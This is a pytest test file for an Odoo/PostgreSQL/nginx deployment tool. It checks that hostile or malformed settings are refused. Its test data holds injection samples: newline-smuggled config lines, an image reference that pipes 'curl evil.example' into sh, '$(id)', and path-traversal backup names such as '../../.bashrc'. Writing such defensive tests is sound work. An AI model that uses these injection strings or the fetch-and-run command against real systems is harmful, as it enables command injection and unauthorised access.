"""Hostile or pasted input (issue 25): each is refused before anything runs, in one line that
names the setting or file and says what to do; what may pass reaches the files intact."""

from __future__ import annotations

import configparser
import datetime
import ipaddress
import re
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID

from tasks.backup import BackupError, asked_backup, is_backup_name, trusted_kept_backup
from tasks.backup_settings import backup_settings
from tasks.errors import SettingsError
from tasks.modules import requested_modules
from tasks.odoo_options import (
    ODOO_OPTIONS_FIXED,
    ODOO_OPTIONS_OVERRIDABLE,
    ODOO_OPTIONS_SETTING,
)
from tasks.odoo_secrets import odoo_secrets_conf
from tasks.render import render
from tasks.secrets import SECRET_KEYS
from tasks.settings import load_settings
from tests.unit.environments import HOST_SHAPE, STRONG, host_data

ENVS = ["dev", "staging", "prod"]
ONE_LINE = "holds a newline or another control character: give the value on one line"


def _refused(message: str, env: str, tmp_path: Path, **overrides: object) -> None:
    with pytest.raises(SettingsError) as error:
        load_settings(host_data(env, tmp_path, **overrides), HOST_SHAPE)
    assert str(error.value) == message
    assert "\n" not in str(error.value)


# --- 1. values that would leave their line of odoo.conf, postgresql.conf, compose.yaml ---

NOT_ONE_LINE = {
    "an odoo.conf key added by a newline": (
        {"odoo_options": {"email_from": "erp@example.org\nlist_db = True"}},
        f"odoo_options email_from = 'erp@example.org\\nlist_db = True' {ONE_LINE}",
    ),
    "a carriage return": (
        {"odoo_options": {"email_from": "erp@example.org\r"}},
        f"odoo_options email_from = 'erp@example.org\\r' {ONE_LINE}",
    ),
    "a section opened by a list item": (
        {"odoo_options": {"server_wide_modules": ["base", "web\n[options]"]}},
        f"odoo_options server_wide_modules = ['base', 'web\\n[options]'] {ONE_LINE}",
    ),
    "a Unicode line separator": (
        {"odoo_options": {"email_from": "a@example.org\u2028list_db = True"}},
        f"odoo_options email_from = 'a@example.org\\u2028list_db = True' {ONE_LINE}",
    ),
    "a NUL": (
        {"odoo_options": {"email_from": "a@example.org\x00"}},
        f"odoo_options email_from = 'a@example.org\\x00' {ONE_LINE}",
    ),
    "a postgresql.conf line added by a newline": (
        {"postgres_options": {"cluster_name": "dfr\nlisten_addresses = '*'"}},
        f"postgres_options cluster_name = \"dfr\\nlisten_addresses = '*'\" {ONE_LINE}",
    ),
}


@pytest.mark.parametrize("case", NOT_ONE_LINE)
def test_a_value_that_would_leave_its_line_is_refused(tmp_path, case):
    overrides, message = NOT_ONE_LINE[case]
    _refused(message, "prod", tmp_path, **overrides)


def test_an_addons_directory_whose_name_breaks_the_line_is_refused(tmp_path):
    addons = tmp_path / "addons\n    privileged: true"
    addons.mkdir()
    _refused(f"odoo_addons_src = {str(addons)!r} {ONE_LINE}", "dev", tmp_path,
             odoo_addons_src=str(addons))  # fmt: skip


@pytest.mark.parametrize("key", sorted(SECRET_KEYS))
def test_a_secret_that_would_add_a_line_to_odoo_conf_is_refused(tmp_path, monkeypatch, key):
    for name in SECRET_KEYS:
        monkeypatch.delenv(name, raising=False)
    data = host_data("staging", tmp_path)
    path = Path(data["secrets_file"])
    values = {**STRONG, key: STRONG[key] + "\\nlist_db = True"}  # dotenv: "\n" in quotes
    path.write_text("".join(f'{k}="{v}"\n' for k, v in values.items()))
    with pytest.raises(SettingsError) as error:
        load_settings(data, HOST_SHAPE)
    assert str(error.value) == (
        f"{key} for staging holds a newline or another control character: give the value on "
        "one line"
    )
    assert STRONG[key] not in str(error.value)


def test_a_backup_schedule_that_would_add_a_timer_line_is_refused(tmp_path):
    data = host_data("prod", tmp_path, backup_schedule="daily\nOnBootSec=1")
    with pytest.raises(SettingsError) as error:
        backup_settings(data, "prod")
    assert str(error.value) == (
        "backup_schedule 'daily\\nOnBootSec=1' is not a systemd OnCalendar value: give one on "
        'one line, like "*-*-* 02:30:00"'
    )


# --- 1. odoo_options and the keys the template writes: once each, never twice ---

OWNED = {
    "workers": "odoo_options workers: set odoo_workers instead (odoo.conf has the key once, "
    "from that setting)",
    "limit_time_real": "odoo_options limit_time_real: set odoo_limit_time_real instead "
    "(odoo.conf has the key once, from that setting)",
    "without_demo": "odoo_options without_demo: set odoo_demo instead (odoo.conf has the key "
    "once, from that setting)",
    **{
        key: f"odoo_options {key}: dfr-deploy sets it so that the stack works and stays closed "
        "(docs/odoo.md); it cannot be overridden"
        for key in ("list_db", "admin_passwd", "db_password", "dbfilter", "proxy_mode")
    },
    "xmlrpc_port": "odoo_options has xmlrpc_port, not an Odoo 18 option: check the spelling "
    "against docs/odoo.md (Odoo would silently ignore it)",  # Odoo reads it as http_port
}


@pytest.mark.parametrize("key", OWNED)
def test_odoo_options_cannot_set_a_key_the_stack_owns(tmp_path, key):
    _refused(OWNED[key], "prod", tmp_path, odoo_options={key: "1"})


def _keys(conf: str) -> list[str]:
    return re.findall(r"(?m)^([A-Za-z_][A-Za-z0-9_]*)\s*=", conf)


@pytest.mark.parametrize("env", ENVS)
def test_an_override_replaces_the_template_line_and_every_key_is_there_once(env, tmp_path):
    options = {"log_level": "warn", "email_from": "erp@example.org", "db_maxconn": 32}
    settings = load_settings(host_data(env, tmp_path, odoo_options=options), HOST_SHAPE)
    # What Odoo reads: the rendered file, then the entrypoint's secrets appended to it.
    conf = render("odoo.conf.j2", settings) + odoo_secrets_conf(settings, None)
    parser = configparser.RawConfigParser(strict=True)  # as Odoo's: a duplicate key is fatal
    parser.read_string(conf)
    keys = _keys(conf)
    assert sorted(keys) == sorted(set(keys))
    assert parser["options"]["log_level"] == "warn"
    assert parser["options"]["db_maxconn"] == "32"
    assert "log_level" in ODOO_OPTIONS_OVERRIDABLE


@pytest.mark.parametrize("env", ENVS)
def test_every_key_the_template_writes_is_replaced_or_refused_in_odoo_options(env, tmp_path):
    settings = load_settings(host_data(env, tmp_path), HOST_SHAPE)
    written = set(_keys(render("odoo.conf.j2", settings) + odoo_secrets_conf(settings, None)))
    assert written <= ODOO_OPTIONS_OVERRIDABLE | set(ODOO_OPTIONS_SETTING) | ODOO_OPTIONS_FIXED


# --- 2. odoo_modules: Odoo's technical names only ---

MODULE_RULE = "use lowercase letters, digits and _, starting with a letter or digit"
BAD_MODULES = {
    "YAML through compose.yaml": ["dfr_base\n    privileged: true"],
    "a trailing newline": ["dfr_base\n"],
    "capitals": ["Sale"],
    "a dash": ["web-x"],
    "a leading underscore": ["_private"],
    "a space": ["dfr base"],
    "a quote": ['dfr"'],
    "empty": [""],
}


@pytest.mark.parametrize("case", BAD_MODULES)
def test_a_module_name_outside_odoos_grammar_is_refused(tmp_path, case):
    (module,) = BAD_MODULES[case]
    message = f"odoo_modules has {module!r}, not an Odoo module's technical name: {MODULE_RULE}"
    _refused(message, "prod", tmp_path, odoo_modules=["dfr_base", module])


@pytest.mark.parametrize("modules", ["sale,stock", {"sale": 1}, ["sale", 3]])
def test_modules_not_given_as_a_list_of_names_are_refused(tmp_path, modules):
    message = f'odoo_modules {modules!r}: give a list of module names, like ["dfr_base"]'
    _refused(message, "prod", tmp_path, odoo_modules=modules)


def test_technical_names_pass(tmp_path):
    modules = ["dfr_base", "l10n_fr", "3d_view", "sale"]
    settings = load_settings(host_data("prod", tmp_path, odoo_modules=modules), HOST_SHAPE)
    assert settings.odoo_modules == tuple(modules)


# --- 3. postgresql.conf strings, quoted by its rules ---


def _guc_line(line: str) -> tuple[str, str]:
    """name and value of a postgresql.conf line, read as PostgreSQL's lexer does (guc-file.l):
    a quoted value runs to its closing quote ('' is a quote, a backslash escapes the next
    character: \\b \\f \\n \\r \\t, up to 3 octal digits, else the character itself), then only
    blanks and a # comment may follow."""
    name, value = re.fullmatch(r"([a-z_][a-z0-9_.]*)\s*=?\s*(.*)", line).groups()
    assert value.startswith("'"), line
    out, i = [], 1
    while True:
        char = value[i]
        if char == "\\":
            octal = re.match(r"[0-7]{1,3}", value[i + 1 :])
            if octal:
                out.append(chr(int(octal.group(), 8)))
                i += 1 + len(octal.group())
                continue
            out.append({"b": "\b", "f": "\f", "n": "\n", "r": "\r", "t": "\t"}.get(
                value[i + 1], value[i + 1]))  # fmt: skip
            i += 2
        elif char == "'" and value[i + 1 : i + 2] == "'":
            out.append("'")
            i += 2
        elif char == "'":
            break
        else:
            out.append(char)
            i += 1
    assert re.fullmatch(r"\s*(#.*)?", value[i + 1 :]), f"{line}: text after the value"
    return name, "".join(out)


@pytest.mark.parametrize(
    "value",
    ["ends with a backslash \\", "it's", "# not a comment", "C:\\temp\\new", "\\101",
     "'' both \\' at once \\\\ # x", "'"],
)  # fmt: skip
def test_a_postgresql_conf_string_reads_back_as_given(tmp_path, value):
    settings = load_settings(
        host_data("prod", tmp_path, postgres_options={"cluster_name": value}), HOST_SHAPE
    )
    (line,) = [
        line
        for line in render("postgresql.conf.j2", settings).splitlines()
        if line.startswith("cluster_name")
    ]
    assert _guc_line(line) == ("cluster_name", value)


def test_a_postgresql_conf_string_is_quoted_exactly(tmp_path):
    value = "it's \\ # x\\"
    settings = load_settings(
        host_data("prod", tmp_path, postgres_options={"cluster_name": value}), HOST_SHAPE
    )
    assert "\ncluster_name = 'it''s \\\\ # x\\\\'\n" in render("postgresql.conf.j2", settings)


# --- 4. every name check is a full match: a trailing newline does not pass ---

TRAILING_NEWLINE = {
    "dfr_domain": "dfr_domain 'erp.example.org\\n' is not a host name: set it for this host",
    "odoo_db_name": "odoo_db_name 'dfr\\n': use letters, digits, _ . - only",
    "odoo_db_user": "odoo_db_user 'dfr\\n' is not allowed: Odoo refuses 'postgres'; use its own "
    "role",
    "publish_address": "publish_address '127.0.0.1\\n' is not an IPv4 address of the host: give "
    'one (127.0.0.1: this machine only) or "" for every interface',
    "docker_log_max_size": "docker_log_max_size '10m\\n' is not a size: use a number with k, m "
    "or g, like 10m",
    "docker_compose_plugin_sha256": f"docker_compose_plugin_sha256 '{'a' * 64}\\n' is not a "
    "sha256: give the 64 hex digits of the Compose binary's checksum",
    **{
        f"{service}_base_image": f"{service}_base_image '{service}:1\\n' is not an image "
        "reference: give [registry[:port]/]name[:tag][@sha256:<64 hex digits>], name in "
        "lowercase, like odoo:18.0 or odoo:18.0@sha256:…"
        for service in ("odoo", "postgres", "nginx")
    },
}
VALUES = {
    "dfr_domain": "erp.example.org",
    "odoo_db_name": "dfr",
    "odoo_db_user": "dfr",
    "publish_address": "127.0.0.1",
    "docker_log_max_size": "10m",
    "docker_compose_plugin_sha256": "a" * 64,
    "odoo_base_image": "odoo:1",
    "postgres_base_image": "postgres:1",
    "nginx_base_image": "nginx:1",
}


@pytest.mark.parametrize("key", TRAILING_NEWLINE)
def test_a_setting_with_a_trailing_newline_is_refused(tmp_path, key):
    extra = {"docker_install_mode": "distro", "docker_compose_plugin_src": "/nonexistent"}
    overrides = {key: VALUES[key] + "\n", **(extra if "compose" in key else {})}
    _refused(TRAILING_NEWLINE[key], "prod", tmp_path, **overrides)


def test_a_postgresql_conf_name_with_a_trailing_newline_is_refused(tmp_path):
    _refused("postgres_options key 'work_mem\\n' is not a postgresql.conf name", "prod",
             tmp_path, postgres_options={"work_mem\n": "64MB"})  # fmt: skip


@pytest.mark.parametrize("asked", ["dfr_base\n", ["dfr_base\n"], "dfr_base,Web"])
def test_modules_to_update_with_a_trailing_newline_are_refused(asked):
    with pytest.raises(SettingsError) as error:
        requested_modules(asked)
    bad = "'Web'" if asked == "dfr_base,Web" else "'dfr_base\\n'"
    assert str(error.value) == (
        f"update_modules has {bad}: give module names like dfr_base, or all"
    )


def test_modules_to_update_pass_as_names():
    assert requested_modules("dfr_base, sale") == ["dfr_base", "sale"]
    assert requested_modules(None) == []


# --- 5. base images: Docker's reference grammar ---

NOT_IMAGES = [
    "odoo:18.0; curl evil.example | sh", "$(id)", "odoo:18.0 --privileged", "-odoo:18.0",
    "Odoo:18.0", "odoo:", "odoo::1", "odoo:-x", "odoo@sha256:abc", "odoo@sha256:" + "AB" * 32,
    "odoo@md5:" + "ab" * 16, "odoo:18.0@sha256:" + "ab" * 32 + "\n", "odoo:18.\u00e9",
    "odoo:" + "a" * 129, "registry.example.org/" + "a" * 250, "odoo/../etc", "odoo//x", "",
    "None", "odoo:18.0\t",
]  # fmt: skip
IMAGES = [
    "odoo:18.0", "postgres:17", "nginx:stable", "nginx", "docker.io/library/postgres:17.2",
    "registry.example.org:5000/team/odoo:18.0-20261201", "localhost:5000/dfr-test/odoo:x",
    "odoo:18.0@sha256:" + "ab" * 32, "odoo@sha256:" + "0f" * 32, "my__org/x-y.z:_Tag.1",
]  # fmt: skip


@pytest.mark.parametrize("reference", NOT_IMAGES)
def test_a_base_image_outside_dockers_grammar_is_refused(tmp_path, reference):
    message = (
        f"nginx_base_image {reference!r} is not an image reference: give "
        "[registry[:port]/]name[:tag][@sha256:<64 hex digits>], name in lowercase, like "
        "odoo:18.0 or odoo:18.0@sha256:…"
    )
    _refused(message, "staging", tmp_path, nginx_base_image=reference)


@pytest.mark.parametrize("reference", IMAGES)
def test_a_base_image_of_dockers_grammar_passes(tmp_path, reference):
    settings = load_settings(host_data("staging", tmp_path, nginx_base_image=reference))
    assert settings.base_images["nginx"] == reference


# --- 6. the backup name a host prints: a backup's file name, the one asked for ---

GOOD = "prod-dfr-20261204T023000Z.dfrbak"
NOT_NAMES = [
    "../../.bashrc 10", "/etc/cron.d/x.dfrbak 10", "a/../../x.dfrbak 10", "..dfrbak 10",
    "x..y.dfrbak 10", ".hidden.dfrbak 10", "-rf.dfrbak 10", "prod dfr.dfrbak 10",
    "prod-dfr.tar 10", f"{GOOD}\n 10", f"{GOOD} 1\u00b2", f"{GOOD} -1", f"{GOOD} 0x10", GOOD,
    "", "a" * 300 + ".dfrbak 10",
]  # fmt: skip


@pytest.mark.parametrize("line", NOT_NAMES)
def test_a_host_printing_anything_but_a_backup_name_and_size_gets_nothing_written(line):
    with pytest.raises(BackupError) as error:
        trusted_kept_backup(line, "latest")
    assert str(error.value) == (
        f"the host answered {line[:120]!r} for the backup latest, not a backup's name and size: "
        "nothing was fetched; check the host's dfr-backup"
    )


def test_a_host_printing_another_backup_than_the_one_asked_for_gets_nothing_written():
    with pytest.raises(BackupError) as error:
        trusted_kept_backup("prod-dfr-20260101T000000Z.dfrbak 10", GOOD)
    assert str(error.value) == (
        f"the host answered backup prod-dfr-20260101T000000Z.dfrbak when {GOOD} was asked for: "
        "nothing was fetched; check the host's dfr-backup"
    )


@pytest.mark.parametrize("wanted", ["latest", GOOD])
def test_the_backup_asked_for_is_accepted(wanted):
    assert trusted_kept_backup(f"{GOOD} 1234", wanted) == (GOOD, 1234)
    assert is_backup_name(GOOD) and asked_backup(wanted) == wanted


@pytest.mark.parametrize("fetch", ["../x.dfrbak", "/tmp/x.dfrbak", ".x.dfrbak", "x"])
def test_a_fetch_of_something_else_than_a_backup_name_is_refused(fetch):
    with pytest.raises(SettingsError) as error:
        asked_backup(fetch)
    assert str(error.value) == (
        f"fetch {fetch!r} is not a backup's name: give latest or a NAME.dfrbak the host keeps "
        "(dfr-backup's names, no path)"
    )


# --- 7. an operator's certificate: for dfr_domain, and not about to expire ---

DOMAIN = "prod.dfr.example.org"


def _operator_pair(
    tmp_path, dns=(DOMAIN,), days=90, ips=(), key=None
) -> tuple[dict[str, str], str]:
    """A certificate made here: its SAN names ``dns`` and ``ips``, it ends in ``days``."""
    key = key or ec.generate_private_key(ec.SECP256R1())
    now = datetime.datetime.now(datetime.UTC).replace(second=0, microsecond=0)
    end = now + datetime.timedelta(days=days, hours=12)
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, DOMAIN)])
    builder = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(end)
    )
    names = [x509.DNSName(n) for n in dns] + [x509.IPAddress(ipaddress.ip_address(a)) for a in ips]
    if names:
        builder = builder.add_extension(x509.SubjectAlternativeName(names), critical=False)
    cert = builder.sign(key, hashes.SHA256())
    (tmp_path / "operator.crt").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    (tmp_path / "operator.key").write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    files = {
        "tls_certificate": str(tmp_path / "operator.crt"),
        "tls_certificate_key": str(tmp_path / "operator.key"),
    }
    return files, end.strftime("%Y-%m-%d %H:%M UTC")


@pytest.mark.parametrize("env", ["dev", "staging", "prod"])
def test_a_certificate_with_a_key_nginx_refuses_is_refused(tmp_path, env):
    """A 1024-bit RSA key passes the pair check but OpenSSL 3's nginx would not start on it."""
    files, _ = _operator_pair(tmp_path, key=rsa.generate_private_key(65537, 1024))
    with pytest.raises(SettingsError) as error:
        load_settings(host_data(env, tmp_path, **files), HOST_SHAPE)
    assert str(error.value) == (
        f"tls_certificate {tmp_path / 'operator.crt'} has a 1024-bit key, which nginx's OpenSSL "
        "refuses: use a certificate with an RSA key of 2048 bits or more, or ECDSA"
    )


def test_a_certificate_with_a_2048_bit_rsa_key_passes(tmp_path):
    files, _ = _operator_pair(tmp_path, key=rsa.generate_private_key(65537, 2048))
    settings = load_settings(host_data("prod", tmp_path, **files), HOST_SHAPE)
    assert settings.tls.certificate == tmp_path / "operator.crt"


NOT_FOR_THE_DOMAIN = {
    "another name": (["erp.example.org"], "erp.example.org"),
    "a wildcard one label up": (["*.example.org"], "*.example.org"),
    "a wildcard's own parent": (["*.prod.dfr.example.org"], "*.prod.dfr.example.org"),
    "a partial wildcard": (["p*.dfr.example.org"], "p*.dfr.example.org"),
    "no subjectAltName (a common name only)": ([], "no subjectAltName"),
}


@pytest.mark.parametrize("env", ["staging", "prod"])
@pytest.mark.parametrize("case", NOT_FOR_THE_DOMAIN)
def test_a_certificate_that_does_not_name_the_domain_is_refused(tmp_path, env, case):
    dns, listed = NOT_FOR_THE_DOMAIN[case]
    pair, _ = _operator_pair(tmp_path, dns=dns)
    message = (
        f"tls_certificate {pair['tls_certificate']} is not for {DOMAIN} (it names {listed}): "
        f"give a certificate whose subjectAltName names dfr_domain {DOMAIN}"
    )
    _refused(message, env, tmp_path, dfr_domain=DOMAIN, **pair)


@pytest.mark.parametrize(
    ("domain", "dns", "ips"),
    [(DOMAIN, [DOMAIN], []), (DOMAIN, ["*.dfr.example.org"], []),
     (DOMAIN, ["other.example", DOMAIN.upper()], []), ("192.0.2.10", [], ["192.0.2.10"])],
)  # fmt: skip
def test_a_certificate_naming_the_domain_passes(tmp_path, caplog, domain, dns, ips):
    pair, _ = _operator_pair(tmp_path, dns=dns, ips=ips)
    with caplog.at_level("WARNING", logger="pyinfra"):
        settings = load_settings(host_data("prod", tmp_path, dfr_domain=domain, **pair),
                                 HOST_SHAPE)  # fmt: skip
    assert settings.tls.certificate == Path(pair["tls_certificate"])
    assert caplog.text == ""


@pytest.mark.parametrize("days", [0, 5, 13])
def test_a_certificate_ending_within_14_days_is_refused(tmp_path, days):
    pair, end = _operator_pair(tmp_path, days=days)
    message = (
        f"tls_certificate {pair['tls_certificate']} expires on {end}, within 14 days: renew it "
        "and point tls_certificate at the new one"
    )
    _refused(message, "prod", tmp_path, dfr_domain=DOMAIN, **pair)


@pytest.mark.parametrize("days", [14, 29])
def test_a_certificate_ending_within_30_days_is_deployed_with_a_warning(tmp_path, caplog, days):
    pair, end = _operator_pair(tmp_path, days=days)
    with caplog.at_level("WARNING", logger="pyinfra"):
        load_settings(host_data("prod", tmp_path, dfr_domain=DOMAIN, **pair), HOST_SHAPE)
    assert [record.getMessage() for record in caplog.records] == [
        f"tls_certificate {pair['tls_certificate']} expires on {end}, within 30 days: renew it soon"
    ]


def test_dev_takes_an_operator_certificate_for_another_name(tmp_path):
    pair, _ = _operator_pair(tmp_path, dns=["elsewhere.example.org"], days=5)
    assert not load_settings(host_data("dev", tmp_path, **pair)).tls.self_signed


# --- 8. secrets files: this user's only ---


@pytest.mark.parametrize("env", ENVS)
@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o660, 0o620, 0o602, 0o666])
def test_a_secrets_file_open_to_other_users_is_refused_with_the_chmod_to_run(tmp_path, env, mode):
    data = host_data(env, tmp_path)
    path = Path(data["secrets_file"])
    path.chmod(mode)
    with pytest.raises(SettingsError) as error:
        load_settings(data, HOST_SHAPE)
    assert str(error.value) == (
        f"secrets file {path} is open to other users (mode {mode:04o}), as ssh refuses for "
        f"keys: run chmod 600 {path}"
    )


def test_the_chmod_to_run_is_quoted_for_the_shell(tmp_path):
    data = host_data("prod", tmp_path)
    path = tmp_path / "my secrets.env"
    Path(data["secrets_file"]).rename(path)
    path.chmod(0o644)
    _refused(
        f"secrets file {path} is open to other users (mode 0644), as ssh refuses for keys: "
        f"run chmod 600 '{path}'",
        "prod", tmp_path, secrets_file=str(path),
    )  # fmt: skip


@pytest.mark.parametrize("mode", [0o600, 0o400])
def test_a_secrets_file_of_this_user_only_passes(tmp_path, mode):
    data = host_data("prod", tmp_path)
    Path(data["secrets_file"]).chmod(mode)
    assert load_settings(data, HOST_SHAPE).env == "prod"


def test_dev_secrets_are_generated_private_and_pass_the_check(tmp_path, monkeypatch):
    for key in SECRET_KEYS:
        monkeypatch.delenv(key, raising=False)
    path = tmp_path / "secrets" / "dev.env"
    load_settings(host_data("dev", tmp_path, secrets_file=str(path)))
    assert path.stat().st_mode & 0o777 == 0o600
    load_settings(host_data("dev", tmp_path, secrets_file=str(path)))  # and again
